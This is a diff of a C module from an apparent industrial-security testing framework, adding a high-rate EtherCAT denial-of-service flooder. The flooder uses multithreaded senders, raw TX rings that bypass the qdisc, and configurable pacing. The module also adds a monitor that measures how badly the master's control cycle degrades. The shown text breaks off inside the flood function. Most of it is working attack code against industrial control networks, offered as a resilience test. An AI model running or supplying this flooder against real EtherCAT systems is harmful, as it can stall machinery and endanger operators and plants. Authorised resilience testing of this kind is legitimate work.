@@ -1,213 +1,946 @@
 // EtherCAT DoS Module
 // Tests master's resilience to denial of service attacks
 
+#ifndef _GNU_SOURCE
+#define _GNU_SOURCE // pthread_setaffinity_np
+#endif
+
+#include <errno.h>
+#include <pthread.h>
+#include <sched.h>
 #include <stdio.h>
 #include <stdlib.h>
 #include <string.h>
 #include <stdint.h>
 #include <time.h>
+#include <unistd.h>
 
 #include "kraken_module_abi.h"
 #include "kraken_module_abi_v2.h"
+#include "kraken_module_abi_v3.h"
+#include "kraken_ecat_frame.h"
+#include "kraken_ecat_stamp.h"
+#include "kraken_pacer.h"
+#include "kraken_packet_conduit.h"
+#include "kraken_params.h"
+#include "kraken_pcapng.h"
+#include "kraken_result.h"
+
+#define ECAT_ETHERTYPE 0x88A4
+#define SEND_BATCH 64 // frames handed to the conduit per call
+#define FLOOD_DEFAULT_MS 500
+#define FLOOD_MAX_THREADS 64
+#define IMPACT_BASELINE_MS 200
+#define IMPACT_RECOVERY_MS 200
+
+// Every frame the run sends is stamped with the run id and the next
+// sequence number just before it goes out, so captures - the impact
+// monitor's or anyone else's - can tell which attack frames got through
+// and how long they took. Shared by the flood threads.
+typedef struct {
+    uint32_t run;
+    uint32_t next; // atomic
+} dos_stamper_t;
+
+// Datagrams packed into one stamped frame: `count` copies of `d` with
+// consecutive indices, as many as fit. Returns the frame length.
+static size_t pack_frame(uint8_t *buf, const dos_stamper_t *stamper, KrakenEcatDatagram d, int count) {
+    KrakenEcatStamp stamp = {stamper->run, 0, 0};
+    KrakenEcatFrame f;
+    kraken_ecat_frame_init_stamped(&f, buf, KRAKEN_ECAT_MAX_FRAME, &stamp);
+    for (int i = 0; i < count && kraken_ecat_frame_append(&f, &d); i++) d.index++;
+    return kraken_ecat_frame_finish(&f);
+}
+
+static int64_t dos_now_ns(void) {
+    struct timespec ts;
+    clock_gettime(CLOCK_REALTIME, &ts);
+    return (int64_t)ts.tv_sec * 1000000000LL + ts.tv_nsec;
+}
+
+// Give `count` stamped payloads the next sequence numbers and the current time
+static void stamp_batch(dos_stamper_t *stamper, const KrakenBuffer *batch, size_t count) {
+    uint32_t seq = __atomic_fetch_add(&stamper->next, (uint32_t)count, __ATOMIC_RELAXED);
+    int64_t now = dos_now_ns();
+    for (size_t i = 0; i < count; i++) kraken_ecat_restamp((uint8_t *)batch[i].data, batch[i].len, seq + (uint32_t)i, now);
+}
+
+// `count` send buffers of KRAKEN_ECAT_MAX_FRAME bytes, each holding a copy
+// of `frame` so every copy can carry its own stamp. One allocation, freed
+// with free().
+static KrakenBuffer *frame_copies(const uint8_t *frame, size_t len, size_t count) {
+    KrakenBuffer *batch = malloc(count * (sizeof(*batch) + KRAKEN_ECAT_MAX_FRAME));
+    if (!batch) return NULL;
+    uint8_t *mem = (uint8_t *)(batch + count);
+    for (size_t i = 0; i < count; i++) {
+        memcpy(mem + i * KRAKEN_ECAT_MAX_FRAME, frame, len);
+        batch[i].data = mem + i * KRAKEN_ECAT_MAX_FRAME;
+        batch[i].len = len;
+    }
+    return batch;
+}
+
+// How flood frames reach the wire
+typedef enum {
+    DOS_BACKEND_CONDUIT = 0, // the runner's conduit (ops->send / send_batch)
+    DOS_BACKEND_TX_RING = 1, // own AF_PACKET socket with a TX ring, bypassing the qdisc
+} dos_backend_t;
+
+// Load settings from params_json
+typedef struct {
+    int duration_ms;     // flood length
+    double fps;          // target rate, 0 = as fast as the conduit takes frames
+    uint32_t burst;      // frames released back-to-back per pacing deadline
+    KrakenPacePattern pattern;
+    uint64_t seed;       // RANDOM pattern seed, for reproducible runs
+    int threads;         // flood sender threads, each on its own conduit
+    int datagrams;       // datagrams packed into each frame
+    dos_backend_t backend;
+    bool impact;         // measure the master's cycle while attacking
+    int baseline_ms;     // undisturbed capture before the first test
+    int recovery_ms;     // capture after each test
+    KrakenPcapngConfig pcap;
+} dos_config_t;
+
+static void load_config(dos_config_t *cfg, const char *params_json, KrakenRunResultV2 *result) {
+    KrakenParams params;
+    if (kraken_params_parse(&params, params_json) != 0)
+        kraken_result_log(result, "Malformed params_json, using defaults");
+
+    int64_t duration = kraken_params_int(&params, "duration_ms", FLOOD_DEFAULT_MS);
+    int64_t fps = kraken_params_int(&params, "fps", 0);
+    cfg->duration_ms = duration > 0 ? (int)duration : FLOOD_DEFAULT_MS;
+    cfg->fps = fps > 0 ? (double)fps : 0;
+    // Unpaced floods batch as much as possible; paced ones default to evenly spaced single frames
+    int64_t burst = kraken_params_int(&params, "burst_size", cfg->fps > 0 ? 1 : SEND_BATCH);
+    cfg->burst = burst > 0 ? (uint32_t)(burst > SEND_BATCH ? SEND_BATCH : burst) : 1;
+    char pattern[16];
+    cfg->pattern = kraken_params_string(&params, "burst_pattern", pattern, sizeof(pattern)) > 0 ? kraken_pacer_pattern(pattern) : KRAKEN_PACE_UNIFORM;
+    cfg->seed = (uint64_t)kraken_params_int(&params, "seed", 1);
+    int64_t threads = kraken_params_int(&params, "threads", 1);
+    cfg->threads = threads < 1 ? 1 : threads > FLOOD_MAX_THREADS ? FLOOD_MAX_THREADS : (int)threads;
+    // Same-sized 2-byte datagrams throughout, so one capacity bounds every test
+    int64_t datagrams = kraken_params_int(&params, "datagrams_per_frame", 1);
+    int max_datagrams = (int)kraken_ecat_frame_capacity_prefixed(KRAKEN_ECAT_MAX_FRAME, 2, KRAKEN_ECAT_STAMP_OVERHEAD);
+    cfg->datagrams = datagrams < 1 ? 1 : datagrams > max_datagrams ? max_datagrams : (int)datagrams;
+    char backend[16];
+    cfg->backend = (kraken_params_string(&params, "backend", backend, sizeof(backend)) > 0 && strcmp(backend, "tx_ring") == 0)
+                       ? DOS_BACKEND_TX_RING
+                       : DOS_BACKEND_CONDUIT;
+    cfg->impact = kraken_params_bool(&params, "measure_impact", true);
+    int64_t baseline = kraken_params_int(&params, "baseline_ms", IMPACT_BASELINE_MS);
+    int64_t recovery = kraken_params_int(&params, "recovery_ms", IMPACT_RECOVERY_MS);
+    cfg->baseline_ms = baseline > 0 ? (int)baseline : IMPACT_BASELINE_MS;
+    cfg->recovery_ms = recovery >= 0 ? (int)recovery : IMPACT_RECOVERY_MS;
+    kraken_pcapng_config(&cfg->pcap, &params);
+
+    kraken_params_free(&params);
+}
+
+// Record the first `sent` frames of a batch handed to the conduit
+static void record_sent(KrakenPcapng *pcap, const KrakenBuffer *batch, size_t sent, const char *comment) {
+    for (size_t i = 0; i < sent; i++) kraken_pcapng_write_payload(pcap, batch[i].data, batch[i].len, 0, KRAKEN_PCAPNG_OUT, comment);
+}
+
+// Achieved vs target rate and inter-burst jitter of a paced run
+static void log_pacing(KrakenRunResultV2 *result, const char *label, const KrakenPacer *p, int sent, int64_t elapsed_ns) {
+    double elapsed_ms = elapsed_ns / 1e6;
+    double achieved = elapsed_ns > 0 ? sent * 1e9 / elapsed_ns : 0;
+    if (p->fps <= 0) {
+        kraken_result_logf(result, "  %s: sent %d frames in %.1fms (%.0f fps, unpaced)", label, sent, elapsed_ms, achieved);
+        return;
+    }
+    kraken_result_logf(result, "  %s: sent %d frames in %.1fms (%.0f fps, target %.0f, %.1f%%)",
+                       label, sent, elapsed_ms, achieved, p->fps, achieved * 100.0 / p->fps);
+    if (p->jitter.total > 0) {
+        kraken_result_logf(result, "  %s jitter: p50 %.1fus p90 %.1fus p99 %.1fus max %.1fus over %llu bursts of %u",
+                           label, kraken_hist_percentile(&p->jitter, 0.50) / 1e3, kraken_hist_percentile(&p->jitter, 0.90) / 1e3,
+                           kraken_hist_percentile(&p->jitter, 0.99) / 1e3, p->jitter.max / 1e3,
+                           (unsigned long long)p->bursts, p->burst);
+    }
+    if (p->slips > 0) {
+        kraken_result_logf(result, "  %s: fell behind schedule %llu times (sender blocked)", label, (unsigned long long)p->slips);
+    }
+}
+
+// Impact measurement: while the tests run, a capture thread timestamps the
+// master's cyclic frames on a conduit of its own. Each cycle gap and each
+// WKC of a frame returning from the slaves is tagged with the phase it fell
+// in (baseline, then every test and the recovery window after it). The
+// master is the source of the first EtherCAT frame not sent by us; one
+// frame per cycle is assumed.
+#define IMPACT_PHASES 9
+#define IMPACT_MAX_SAMPLES (1u << 20)
+#define IMPACT_MIN_CYCLES 10 // baseline cycles needed for a verdict
+#define IMPACT_BATCH 32
+
+static const char *const impact_phase_names[IMPACT_PHASES] = {
+    "baseline",          "flood",                      "flood_recovery", "state_change", "state_change_recovery",
+    "timing_disruption", "timing_disruption_recovery", "large_frames",   "large_frames_recovery",
+};
+
+typedef struct {
+    int64_t value;
+    int phase;
+} impact_sample_t;
+
+typedef struct {
+    impact_sample_t *items;
+    size_t count;
+    size_t cap;
+} impact_samples_t;
+
+typedef struct {
+    KrakenConnectionHandle conn;
+    const KrakenConnectionOps *ops;
+    KrakenPcapng *pcap; // every captured frame is recorded, tagged with its phase
+    pthread_t tid;
+    int stop;                              // atomic, set by the test thread
+    int phase;                             // atomic, advanced by the test thread
+    int64_t phase_start_ns[IMPACT_PHASES]; // CLOCK_REALTIME, comparable to receive timestamps
+    int64_t end_ns;
+
+    // Owned by the capture thread until it is joined
+    uint8_t master_mac[6];
+    bool master_known;
+    int64_t last_cycle_ns;
+    impact_samples_t gaps; // master frame to master frame
+    impact_samples_t wkcs; // summed WKC of frames returning from the slaves
+    KrakenStampStats stamps; // our own frames seen again
+    const char *clock;       // timestamp source of the first frame (kraken_recv_clock)
+} impact_monitor_t;
+
+// Per-phase verdict inputs
+typedef struct {
+    uint64_t cycles;
+    uint64_t missed;
+    uint64_t returned;
+    uint64_t wkc_drops;
+    KrakenHistogram jitter; // |gap - baseline period|, ns
+} impact_phase_t;
+
+static void impact_push(impact_samples_t *s, int phase, int64_t value) {
+    if (s->count == s->cap) {
+        if (s->cap >= IMPACT_MAX_SAMPLES) return;
+        size_t cap = s->cap ? s->cap * 2 : 1024;
+        impact_sample_t *items = realloc(s->items, cap * sizeof(*items));
+        if (!items) return;
+        s->items = items;
+        s->cap = cap;
+    }
+    s->items[s->count].value = value;
+    s->items[s->count].phase = phase;
+    s->count++;
+}
+
+// Sum the WKCs of every datagram in an EtherCAT frame (Ethernet header
+// included). Fails for other ethertypes, malformed frames and our own
+// signed frames.
+static bool impact_parse(const uint8_t *f, size_t len, uint32_t *wkc) {
+    KrakenEcatInfo info;
+    if (len < 14 || f[12] != 0x88 || f[13] != 0xA4 || !kraken_ecat_parse(f + 14, len - 14, &info) || info.sig) return false;
+    *wkc = info.wkc;
+    return true;
+}
+
+// Phase a frame received at `ts` belongs to; the current phase may have
+// started after the frame arrived
+static int impact_phase_of(impact_monitor_t *m, int64_t ts) {
+    int phase = __atomic_load_n(&m->phase, __ATOMIC_ACQUIRE);
+    while (phase > 0 && ts < m->phase_start_ns[phase]) phase--;
+    return phase;
+}
 
-#define ECAT_TYPE 1
-
-// Kraken signature for Wireshark filtering: "KRKN" = 0x4B524B4E
-// Filter in Wireshark: frame contains "KRKN"
-#define KRAKEN_SIG "KRKN"
-#define KRAKEN_SIG_LEN 4
-
-static size_t build_frame(uint8_t *buf, uint8_t cmd, uint16_t addr, uint16_t offset,
-                          const uint8_t *data, uint16_t data_len, uint16_t wkc) {
-    uint16_t total_data_len = data_len + KRAKEN_SIG_LEN;
-    uint16_t frame_len = 10 + total_data_len + 2;
-    uint16_t header = (frame_len & 0x7FF) | (ECAT_TYPE << 12);
-    buf[0] = header & 0xFF;
-    buf[1] = (header >> 8) & 0xFF;
-    buf[2] = cmd;
-    buf[3] = 0x01;
-    buf[4] = addr & 0xFF;
-    buf[5] = (addr >> 8);
-    buf[6] = offset & 0xFF;
-    buf[7] = (offset >> 8);
-    uint16_t len_flags = total_data_len & 0x7FF;
-    buf[8] = len_flags & 0xFF;
-    buf[9] = (len_flags >> 8) & 0xFF;
-    buf[10] = 0;
-    buf[11] = 0;
-    // Kraken signature first
-    memcpy(buf + 12, KRAKEN_SIG, KRAKEN_SIG_LEN);
-    if (data && data_len > 0) {
-        memcpy(buf + 12 + KRAKEN_SIG_LEN, data, data_len);
-    } else if (data_len > 0) {
-        memset(buf + 12 + KRAKEN_SIG_LEN, 0, data_len);
-    }
-    buf[12 + total_data_len] = wkc & 0xFF;
-    buf[12 + total_data_len + 1] = (wkc >> 8) & 0xFF;
-    return 2 + frame_len;
+static void impact_frame(impact_monitor_t *m, const uint8_t *f, size_t len, int64_t ts) {
+    uint32_t wkc;
+    if (!impact_parse(f, len, &wkc)) return;
+    const uint8_t *src = f + 6;
+    if (!m->master_known) {
+        memcpy(m->master_mac, src, 6);
+        m->master_known = true;
+    }
+    int phase = impact_phase_of(m, ts);
+    if (memcmp(src, m->master_mac, 6) == 0) {
+        if (m->last_cycle_ns > 0 && ts > m->last_cycle_ns) impact_push(&m->gaps, phase, ts - m->last_cycle_ns);
+        m->last_cycle_ns = ts;
+    } else if ((src[0] ^ m->master_mac[0]) == 0x02 && memcmp(src + 1, m->master_mac + 1, 5) == 0) {
+        // Slaves set the locally administered bit on frames they send back
+        impact_push(&m->wkcs, phase, wkc);
+    }
+}
+
+static void *impact_capture(void *arg) {
+    impact_monitor_t *m = arg;
+    uint8_t bufs[IMPACT_BATCH][1536];
+    KrakenRecvExSlot slots[IMPACT_BATCH];
+    while (!__atomic_load_n(&m->stop, __ATOMIC_ACQUIRE)) {
+        for (int i = 0; i < IMPACT_BATCH; i++) {
+            slots[i].data = bufs[i];
+            slots[i].size = sizeof(bufs[i]);
+        }
+        // NIC timestamps where the runner turned them on: cycle gaps then
+        // exclude the host's receive path
+        int64_t n = kraken_recv_frames_ex(m->conn, m->ops, slots, IMPACT_BATCH, 20);
+        if (n < 0) break;
+        if (n > 0 && !m->clock) m->clock = kraken_recv_clock(slots[0].flags, slots[0].timestamp_ns);
+        for (int64_t i = 0; i < n; i++) {
+            int64_t ts = slots[i].timestamp_ns ? slots[i].timestamp_ns : dos_now_ns();
+            impact_frame(m, slots[i].data, slots[i].len, ts);
+            kraken_stamp_stats_frame(&m->stamps, slots[i].data, slots[i].len, ts);
+            kraken_pcapng_write(m->pcap, slots[i].data, slots[i].len, ts, KRAKEN_PCAPNG_IN, impact_phase_names[impact_phase_of(m, ts)]);
+        }
+    }
+    return NULL;
+}
+
+// Open the capture conduit and start the capture thread in the baseline phase.
+// Returns: the monitor, or NULL when the runner cannot provide a second conduit.
+static impact_monitor_t *impact_start(KrakenConnectionHandle conn, const KrakenConnectionOps *ops, KrakenRunResultV2 *result,
+                                      KrakenPcapng *pcap, uint32_t run) {
+    if (!ops->open || !ops->close) {
+        kraken_result_log(result, "Impact: runner cannot open a capture conduit, master cycle not measured");
+        return NULL;
+    }
+    impact_monitor_t *m = calloc(1, sizeof(*m));
+    if (!m) return NULL;
+    m->ops = ops;
+    m->pcap = pcap;
+    kraken_stamp_stats_init(&m->stamps, run);
+    m->conn = ops->open(conn, 1000);
+    if (!m->conn) {
+        kraken_result_log(result, "Impact: could not open a capture conduit, master cycle not measured");
+        free(m);
+        return NULL;
+    }
+    kraken_filter_frames(m->conn, ops, "ethercat", 0);
+    m->phase_start_ns[0] = dos_now_ns();
+    if (pthread_create(&m->tid, NULL, impact_capture, m) != 0) {
+        ops->close(m->conn);
+        free(m);
+        return NULL;
+    }
+    return m;
+}
+
+// Enter `phase` and keep capturing for hold_ms
+static void impact_enter(impact_monitor_t *m, int phase, int hold_ms) {
+    if (!m) return;
+    m->phase_start_ns[phase] = dos_now_ns();
+    __atomic_store_n(&m->phase, phase, __ATOMIC_RELEASE);
+    if (hold_ms > 0) usleep((useconds_t)hold_ms * 1000);
+}
+
+static void impact_stop(impact_monitor_t *m) {
+    m->end_ns = dos_now_ns();
+    __atomic_store_n(&m->stop, 1, __ATOMIC_RELEASE);
+    pthread_join(m->tid, NULL);
+    m->ops->close(m->conn);
+}
+
+static void impact_free(impact_monitor_t *m) {
+    if (!m) return;
+    free(m->gaps.items);
+    free(m->wkcs.items);
+    free(m);
+}
+
+static int impact_cmp(const void *a, const void *b) {
+    int64_t x = *(const int64_t *)a, y = *(const int64_t *)b;
+    return (x > y) - (x < y);
+}
+
+// Nominal cycle period: median of the baseline gaps, 0 if there are too few
+static int64_t impact_period(const impact_monitor_t *m) {
+    size_t n = 0;
+    for (size_t i = 0; i < m->gaps.count; i++) n += m->gaps.items[i].phase == 0;
+    if (n < IMPACT_MIN_CYCLES) return 0;
+    int64_t *v = malloc(n * sizeof(*v));
+    if (!v) return 0;
+    n = 0;
+    for (size_t i = 0; i < m->gaps.count; i++) {
+        if (m->gaps.items[i].phase == 0) v[n++] = m->gaps.items[i].value;
+    }
+    qsort(v, n, sizeof(*v), impact_cmp);
+    int64_t period = v[n / 2];
+    free(v);
+    return period;
+}
+
+// Cycles lost in a gap: anything longer than 1.5 periods
+static uint64_t impact_missed(int64_t gap, int64_t period) {
+    return gap > period + period / 2 ? (uint64_t)((gap + period / 2) / period) - 1 : 0;
+}
+
+static void impact_analyze(const impact_monitor_t *m, int64_t period, impact_phase_t *phases) {
+    for (int p = 0; p < IMPACT_PHASES; p++) {
+        memset(&phases[p], 0, sizeof(phases[p]));
+        kraken_hist_init(&phases[p].jitter);
+    }
+    for (size_t i = 0; i < m->gaps.count; i++) {
+        impact_phase_t *ph = &phases[m->gaps.items[i].phase];
+        int64_t gap = m->gaps.items[i].value;
+        ph->cycles++;
+        ph->missed += impact_missed(gap, period);
+        kraken_hist_record(&ph->jitter, (uint64_t)(gap > period ? gap - period : period - gap));
+    }
+    // Cycles that never came before the capture ended
+    if (m->last_cycle_ns > 0) phases[IMPACT_PHASES - 1].missed += impact_missed(m->end_ns - m->last_cycle_ns, period);
+
+    uint32_t expected = 0;
+    for (size_t i = 0; i < m->wkcs.count; i++) {
+        if (m->wkcs.items[i].phase == 0 && m->wkcs.items[i].value > expected) expected = (uint32_t)m->wkcs.items[i].value;
+    }
+    for (size_t i = 0; i < m->wkcs.count; i++) {
+        impact_phase_t *ph = &phases[m->wkcs.items[i].phase];
+        ph->returned++;
+        if (m->wkcs.items[i].value < expected) ph->wkc_drops++;
+    }
+}
+
+// More than one event and over twice the baseline's rate of them
+static bool impact_excess(uint64_t count, uint64_t total, uint64_t base_count, uint64_t base_total) {
+    if (count < 2) return false;
+    return base_total == 0 || count * base_total > 2 * base_count * total;
+}
+
+// Log and attach the measurement, and derive the finding's severity:
+// critical when missed cycles or WKC drops (beyond the baseline's own rate)
+// outlast an attack, high when they occur during one, medium when attack
+// jitter p99 more than doubles and exceeds a tenth of the period, low
+// otherwise.
+// Returns: false when there was too little cyclic traffic for a verdict.
+static bool impact_report(const impact_monitor_t *m, KrakenRunResultV2 *result, KrakenFindingV2 *finding) {
+    int64_t period = impact_period(m);
+    if (period <= 0) {
+        kraken_result_log(result, "Impact: no cyclic master traffic seen during the baseline, impact not measured");
+        return false;
+    }
+    impact_phase_t *phases = malloc(IMPACT_PHASES * sizeof(*phases));
+    if (!phases) return false;
+    impact_analyze(m, period, phases);
+
+    char mac[18];
+    kraken_conduit_format_mac(mac, sizeof(mac), m->master_mac);
+    const char *clock = m->clock ? m->clock : "none";
+    kraken_result_logf(result, "Impact: master %s, cycle period %.1fus (%s receive timestamps)", mac, period / 1e3, clock);
+    kraken_finding_add_evidence(result, finding, "master_mac", mac);
+    kraken_finding_add_evidence(result, finding, "rx_clock", clock);
+    char value[256];
+    snprintf(value, sizeof(value), "%.1f", period / 1e3);
+    kraken_finding_add_evidence(result, finding, "cycle_period_us", value);
+
+    uint64_t base_p99 = kraken_hist_percentile(&phases[0].jitter, 0.99);
+    int rank = 0;
+    for (int p = 0; p < IMPACT_PHASES; p++) {
+        impact_phase_t *ph = &phases[p];
+        snprintf(value, sizeof(value), "%llu cycles, jitter p50 %.1fus p99 %.1fus p999 %.1fus, %llu missed, %llu/%llu WKC drops",
+                 (unsigned long long)ph->cycles, kraken_hist_percentile(&ph->jitter, 0.50) / 1e3,
+                 kraken_hist_percentile(&ph->jitter, 0.99) / 1e3, kraken_hist_percentile(&ph->jitter, 0.999) / 1e3,
+                 (unsigned long long)ph->missed, (unsigned long long)ph->wkc_drops, (unsigned long long)ph->returned);
+        kraken_result_logf(result, "  %s: %s", impact_phase_names[p], value);
+        kraken_finding_add_evidence(result, finding, impact_phase_names[p], value);
+        if (p == 0) continue;
+
+        bool recovery = p % 2 == 0;
+        bool lost = impact_excess(ph->missed, ph->cycles + ph->missed, phases[0].missed, phases[0].cycles + phases[0].missed) ||
+                    impact_excess(ph->wkc_drops, ph->returned, phases[0].wkc_drops, phases[0].returned);
+        uint64_t p99 = kraken_hist_percentile(&ph->jitter, 0.99);
+        int r = lost ? (recovery ? 3 : 2) : (!recovery && p99 > 2 * base_p99 && p99 > (uint64_t)period / 10) ? 1 : 0;
+        if (r > rank) rank = r;
+    }
+    static const char *const severities[] = {"low", "medium", "high", "critical"};
+    const char *severity = severities[rank];
+    finding->severity = kraken_result_strdup(result, severity);
+    finding->success = rank > 0;
+    kraken_finding_add_evidence(result, finding, "impact", severity);
+    kraken_result_logf(result, "Impact: %s", rank == 3   ? "master did not recover after an attack"
+                                             : rank == 2 ? "master lost cycles or slaves dropped WKC under attack"
+                                             : rank == 1 ? "master cycle jitter degraded under attack"
+                                                         : "no measurable degradation");
+    free(phases);
+    return true;
+}
+
+// Attack frames the capture saw come back: through the slaves, or
+// forwarded by anything in between. BRD and other read datagrams still
+// arrive intact because the stamp travels in a NOP datagram of its own.
+static void impact_stamp_report(const impact_monitor_t *m, KrakenRunResultV2 *result, KrakenFindingV2 *finding, int sent) {
+    const KrakenStampStats *st = &m->stamps;
+    char value[256];
+    int n = snprintf(value, sizeof(value), "%llu of %d seen again, %llu reordered, %llu duplicates", (unsigned long long)st->received, sent,
+                     (unsigned long long)st->reordered, (unsigned long long)st->duplicates);
+    if (st->latency.total > 0 && n > 0 && (size_t)n < sizeof(value)) {
+        snprintf(value + n, sizeof(value) - (size_t)n, ", one-way p50 %.1fus p99 %.1fus max %.1fus", kraken_hist_percentile(&st->latency, 0.50) / 1e3,
+                 kraken_hist_percentile(&st->latency, 0.99) / 1e3, st->latency.max / 1e3);
+    }
+    kraken_result_logf(result, "Stamped frames: %s", value);
+    kraken_finding_add_evidence(result, finding, "stamps", value);
 }
 
 // Test 1: High-rate frame flood
+
+// Released once every worker thread exists, so all senders start together
+typedef struct {
+    pthread_mutex_t lock;
+    pthread_cond_t cond;
+    bool open;
+} flood_gate_t;
+
+static void flood_gate_wait(flood_gate_t *g) {
+    pthread_mutex_lock(&g->lock);
+    while (!g->open) pthread_cond_wait(&g->cond, &g->lock);
+    pthread_mutex_unlock(&g->lock);
+}
+
+static void flood_gate_open(flood_gate_t *g) {
+    pthread_mutex_lock(&g->lock);
+    g->open = true;
+    pthread_cond_broadcast(&g->cond);
+    pthread_mutex_unlock(&g->lock);
+}
+
+// BRD frame every flood sender repeats, restamped on each send
+static size_t flood_frame(uint8_t *frame, const dos_config_t *cfg, const dos_stamper_t *stamper) {
+    KrakenEcatDatagram brd = {.cmd = KRAKEN_ECAT_CMD_BRD, .len = 2};
+    return pack_frame(frame, stamper, brd, cfg->datagrams);
+}
+
+// kraken_conduit_tx_send_prefilled, restamping each slot's copy of the
+// prefilled frame as it is queued
+static size_t flood_ring_send(KrakenPacketConduit *c, dos_stamper_t *stamper, size_t count) {
+    KrakenConduitTxRing *t = c->tx_ring;
+    uint32_t seq = __atomic_fetch_add(&stamper->next, (uint32_t)count, __ATOMIC_RELAXED);
+    int64_t now = dos_now_ns();
+    size_t queued = 0;
+    for (; queued < count; queued++) {
+        struct tpacket2_hdr *hdr = kraken_conduit_tx_acquire(c, 1);
+        if (!hdr) break;
+        uint8_t *payload = kraken_conduit_tx_data(hdr) + KRAKEN_CONDUIT_ETH_HLEN;
+        kraken_ecat_restamp(payload, t->prefilled - KRAKEN_CONDUIT_ETH_HLEN, seq + (uint32_t)queued, now);
+        kraken_conduit_tx_queue(t, hdr, (uint32_t)t->prefilled);
+    }
+    if (queued > 0) kraken_conduit_tx_kick(c);
+    return queued;
+}
+
+// One flood sender: its own conduit handle or TX ring, pacer and counters
+typedef struct {
+    KrakenConnectionHandle conn;
+    const KrakenConnectionOps *ops;
+    KrakenPacketConduit *ring; // TX ring backend, prefilled with the flood frame
+    const dos_config_t *cfg;
+    dos_stamper_t *stamper;
+    flood_gate_t *gate; // NULL when flooding from the calling thread
+    int cpu;            // pinned CPU, -1 = not pinned
+    KrakenPacer pacer;
+    int sent;
+    int unsent; // released by the pacer but not taken: TX ring or socket buffer full
+    int errors; // the conduit failed to send
+    int64_t span_ns;
+} flood_worker_t;
+
+// Whether a short send was backpressure rather than a failure. Callers
+// clear errno first; a send that ran out of room or time leaves it clear
+// or at one of these.
+static bool flood_backpressure(void) {
+    return errno == 0 || errno == EAGAIN || errno == EWOULDBLOCK || errno == ENOBUFS || errno == ETIMEDOUT || errno == EINTR;
+}
+
+static void *flood_worker(void *arg) {
+    flood_worker_t *w = arg;
+    uint8_t frame[KRAKEN_ECAT_MAX_FRAME];
+    size_t len = flood_frame(frame, w->cfg, w->stamper);
+    KrakenBuffer *batch = w->ring ? NULL : frame_copies(frame, len, SEND_BATCH);
+
+    if (w->gate) flood_gate_wait(w->gate);
+    if (!w->ring && !batch) return NULL;
+    int64_t end = kraken_pacer_start(&w->pacer) + (int64_t)w->cfg->duration_ms * 1000000LL;
+
+    while (kraken_pacer_wait(&w->pacer, end)) {
+        int n;
+        errno = 0;
+        if (w->ring) {
+            n = (int)flood_ring_send(w->ring, w->stamper, w->pacer.burst);
+        } else {
+            stamp_batch(w->stamper, batch, w->pacer.burst);
+            n = (int)kraken_send_frames(w->conn, w->ops, batch, w->pacer.burst, 1);
+        }
+        w->sent += n;
+        if (n < (int)w->pacer.burst) {
+            if (flood_backpressure()) w->unsent += (int)w->pacer.burst - n;
+            else w->errors += (int)w->pacer.burst - n;
+        }
+    }
+    w->span_ns = kraken_pacer_span_ns(&w->pacer);
+    free(batch);
+    return NULL;
+}
+
+// The target rate is split evenly; each worker gets its own random stream
+static void flood_worker_init(flood_worker_t *w, KrakenConnectionHandle conn, const KrakenConnectionOps *ops, KrakenPacketConduit *ring,
+                              const dos_config_t *cfg, dos_stamper_t *stamper, int index, int count) {
+    memset(w, 0, sizeof(*w));
+    w->conn = conn;
+    w->ops = ops;
+    w->ring = ring;
+    w->cfg = cfg;
+    w->stamper = stamper;
+    w->cpu = -1;
+    kraken_pacer_init(&w->pacer, cfg->fps / count, cfg->burst, cfg->pattern, cfg->seed + (uint64_t)index);
+}
+
+// Pin worker `index` to one CPU, spreading workers over the online CPUs
+static int flood_pin(pthread_t thread, int index) {
+    long cpus = sysconf(_SC_NPROCESSORS_ONLN);
+    if (cpus < 1) return -1;
+    int cpu = (int)(index % cpus);
+    cpu_set_t set;
+    CPU_ZERO(&set);
+    CPU_SET(cpu, &set);
+    return pthread_setaffinity_np(thread, sizeof(set), &set) == 0 ? cpu : -1;
+}
+
+// TX ring backend: one raw socket per worker on the target interface, each
+// with a PACKET_TX_RING whose slots all hold the flood frame, so a burst is
+// just slot flips plus one kick. Needs CAP_NET_RAW.
+// Returns: sockets opened; 0 means flood through the runner's conduit instead.
+static int flood_open_rings(KrakenRunResultV2 *result, const dos_config_t *cfg, const dos_stamper_t *stamper, KrakenPacketConduit **rings) {
+    const char *iface = result->target.kind == KRAKEN_TARGET_KIND_ETHERCAT ? result->target.u.ethercat.iface : NULL;
+    if (!iface || !iface[0]) {
+        kraken_result_log(result, "  Flood: target has no interface for the TX ring backend, using the conduit");
+        return 0;
+    }
+
+    uint8_t frame[KRAKEN_ECAT_MAX_FRAME];
+    size_t len = flood_frame(frame, cfg, stamper);
+    int count = 0;
+    bool bypass = true;
+    while (count < cfg->threads) {
+        KrakenPacketConduit *c = kraken_conduit_open_frame(iface, NULL, ECAT_ETHERTYPE);
+        if (!c) {
+            if (count == 0) kraken_result_logf(result, "  Flood: no raw socket on %s (%s), using the conduit", iface, strerror(errno));
+            break;
+        }
+        if (kraken_conduit_enable_tx_ring(c, 0, true) != 0 || kraken_conduit_tx_prefill(c, frame, len) != 0) {
+            if (count == 0) kraken_result_logf(result, "  Flood: TX ring setup failed on %s (%s), using the conduit", iface, strerror(errno));
+            kraken_conduit_close(c);
+            break;
+        }
+        bypass = bypass && c->tx_ring->qdisc_bypass;
+        rings[count++] = c;
+    }
+    if (count > 0) {
+        kraken_result_logf(result, "  Flood: TX ring backend on %s (%d sockets, qdisc bypass %s)", iface, count, bypass ? "on" : "off");
+        if (count < cfg->threads) kraken_result_logf(result, "  Flood: opened %d of %d TX rings", count, cfg->threads);
+    }
+    return count;
+}
+
 static int test_flood(KrakenConnectionHandle conn, const KrakenConnectionOps *ops,
-                      KrakenRunResultV2 *result, int duration_ms) {
-    uint8_t frame[64];
-    uint8_t data[2] = {0};
-    size_t len = build_frame(frame, 7, 0, 0, data, 2, 0); // BRD
+                      KrakenRunResultV2 *result, const dos_config_t *cfg, dos_stamper_t *stamper, KrakenPcapng *pcap) {
+    KrakenConnectionHandle *conns = calloc((size_t)cfg->threads, sizeof(*conns));
+    KrakenPacketConduit **rings = calloc((size_t)cfg->threads, sizeof(*rings));
+    flood_worker_t *workers = calloc((size_t)cfg->threads, sizeof(*workers));
+    pthread_t *tids = calloc((size_t)cfg->threads, sizeof(*tids));
+    if (!conns || !rings || !workers || !tids) {
+        free(conns);
+        free(rings);
+        free(workers);
+        free(tids);
+        return 0;
+    }
 
-    int sent = 0;
-    clock_t start = clock();
-    clock_t end = start + (duration_ms * CLOCKS_PER_SEC / 1000);
+    // One sender handle per worker, so senders never share a socket
+    int count = 0;
+    bool owned = true; // conns[] were opened here and must be closed
+    if (cfg->backend == DOS_BACKEND_TX_RING) count = flood_open_rings(result, cfg, stamper, rings);
